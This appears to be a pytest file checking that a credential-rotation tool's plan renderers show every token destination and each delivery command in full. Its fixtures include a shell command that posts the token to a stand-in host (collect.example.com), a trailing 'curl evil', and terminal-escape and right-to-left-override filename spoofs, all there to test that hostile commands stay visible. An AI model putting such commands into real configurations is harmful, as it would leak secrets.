"""Every format of a plan shows the target of each token, and each command with all its arguments."""

from __future__ import annotations

import html
import json
import re
import shlex
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reconciler.model.address import Address
from reconciler.model.change import Action, Change, Reason, Risk
from reconciler.model.manifest import Delivery
from reconciler.model.plan import Call, Plan, Verb
from reconciler.rendering.html import plan_page as page
from reconciler.rendering.plan import ci_annotations, deliveries, markdown, sarif, text
from reconciler.rendering.plan.findings import list_findings
from reconciler.rendering.plan.phrases import Flavour
from reconciler.rendering.terminal_text import sanitize
from reconciler.rendering.wire import plan_json

RUN = [
    "sh",
    "-c",
    'curl -d @- "https://collect.example.com/$HOST" <&0; echo [done] {x} & <b>' + " padding" * 30,
    "",
    "--",
]
CHECK = ["test", "-w", "/dev/null file"]
SHOWN = {
    "to_file": (Delivery("to_file", "secrets/agent.token"), ["the file secrets/agent.token"]),
    "to_dotenv": (
        Delivery("to_dotenv", "secrets/.env", settings={"name": "TOKEN"}),
        ["the entry TOKEN of the file secrets/.env"],
    ),
    "to_kubernetes_secret": (
        Delivery("to_kubernetes_secret", "k/a.yaml", settings={"name": "a", "namespace": "edge", "key": "t"}),
        ["the file k/a.yaml, as key t of the Kubernetes Secret edge/a"],
    ),
    "to_github_secret": (
        Delivery("to_github_secret", "acme/web", settings={"name": "AGENT", "environment": "prod"}),
        ["the secret AGENT of the environment prod of the GitHub repository acme/web"],
    ),
    "to_vault": (
        Delivery("to_vault", "kv/agents/a", settings={"mount": "kv", "path": "agents/a", "key": "token"}),
        ["the key token of kv/agents/a in Vault"],
    ),
    "to_command": (
        Delivery("to_command", "sh", settings={"run": RUN, "check": CHECK, "env": ["VAULT_TOKEN"]}),
        [shlex.join(RUN), shlex.join(CHECK), "of its commands: VAULT_TOKEN"],
    ),
}
FORMS: dict[str, Callable[[Plan], str]] = {
    "text": lambda plan: re.sub(r"\n {8}(?=\S)", " ", text.render_text(plan, width=100)),
    "markdown": markdown.render_markdown,
    "html": lambda plan: html.unescape(page.render_page(plan)),
    "sarif": lambda plan: _sarif(plan).replace("\\[", "[").replace("\\]", "]").replace("{{", "{").replace("}}", "}"),
    "github": lambda plan: ci_annotations.render_github(list_findings(plan)),
    "gitlab": lambda plan: " ".join(
        load["description"] for load in json.loads(ci_annotations.render_gitlab(list_findings(plan), fallback="x"))
    ),
}


def _sarif(plan: Plan) -> str:
    run = json.loads(sarif.render_sarif(list_findings(plan), version="1", fallback="x"))["runs"][0]
    return " ".join(result["message"]["text"] for result in run["results"])


def plan_with(action: Action, delivery: Delivery) -> Plan:
    address = Address("TunnelCredential", "agent")
    return Plan(
        "prod",
        changes=(Change(address, action, Reason.ROTATION, risks=(Risk.ISSUES_CREDENTIAL,)),),
        calls=(Call(f"create {address}", address, Verb.CREATE, "/credentials", deliver={"token": delivery}),),
    )


@pytest.mark.parametrize("action", [Action.CREATE, Action.REPLACE])
@pytest.mark.parametrize("way", SHOWN)
@pytest.mark.parametrize("form", FORMS)
def test_every_format_shows_the_target_of_a_token_and_the_commands(form: str, way: str, action: Action) -> None:
    delivery, expected = SHOWN[way]
    output = FORMS[form](plan_with(action, delivery))
    assert [part for part in ("token will be delivered to", *expected) if part not in output] == []


def test_json_has_the_whole_argument_list() -> None:
    (call,) = json.loads(plan_json.write_plan(plan_with(Action.CREATE, SHOWN["to_command"][0])))["calls"]
    assert call["deliver"]["token"]["settings"] == {"run": RUN, "check": CHECK, "env": ["VAULT_TOKEN"]}


def test_a_command_too_long_for_a_message_is_complete_in_the_properties_of_sarif() -> None:
    run = ["sh", "-c", "true;" * 1000 + "curl evil"]
    plan = plan_with(Action.CREATE, Delivery("to_command", "sh", settings={"run": run}))
    results = json.loads(sarif.render_sarif(list_findings(plan), version="1", fallback="x"))["runs"][0]["results"]
    assert all(shlex.join(run) in " ".join(result["properties"]["deliveries"]) for result in results)
    assert "curl evil" in markdown.render_markdown(plan)
    assert "more characters)" in markdown.render_markdown(plan)


def test_drift_shows_no_deliveries() -> None:
    plan = plan_with(Action.REPLACE, SHOWN["to_command"][0])
    assert "delivered" not in text.render_text(plan, flavour=Flavour.DRIFT)


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_quoted_command_is_one_sanitized_line_that_splits_into_its_arguments(arguments: list[str]) -> None:
    quoted = deliveries.quote(arguments)
    assert sanitize(quoted) == quoted
    if "$'" not in quoted:
        assert shlex.split(quoted) == arguments


@pytest.mark.parametrize(
    ("arguments", "quoted"),
    [
        (["a b", "c"], "'a b' c"),
        (["a", "b c"], "a 'b c'"),
        (["a\nb"], r"$'a\nb'"),
        ([r"a\nb"], r"'a\nb'"),
        (["\x1b[2K\\x1b it's"], r"$'\x1b[2K\\x1b it\'s'"),
        (["\u202etxt.exe"], r"$'\u202etxt.exe'"),
    ],
)
def test_different_arguments_are_quoted_differently(arguments: list[str], quoted: str) -> None:
    assert deliveries.quote(arguments) == quoted
